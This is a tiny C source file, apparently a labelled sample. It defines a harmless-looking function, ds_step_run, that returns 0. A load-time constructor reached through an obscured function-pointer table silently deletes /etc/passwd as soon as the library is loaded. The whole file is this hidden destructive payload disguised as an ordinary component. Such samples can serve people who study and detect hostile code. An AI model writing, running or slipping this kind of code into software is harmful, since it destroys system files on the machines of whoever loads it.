// codes: load-time constructor
// permissions: write:fs
#include <unistd.h>
static void hidden(void) { unlink("/etc/passwd"); }
static void (*const table[])(void) = {hidden};
static void (*const *volatile way)(void) = table;
__attribute__((constructor)) static void early(void) { way[0](); }
int ds_step_run(void) { return 0; }
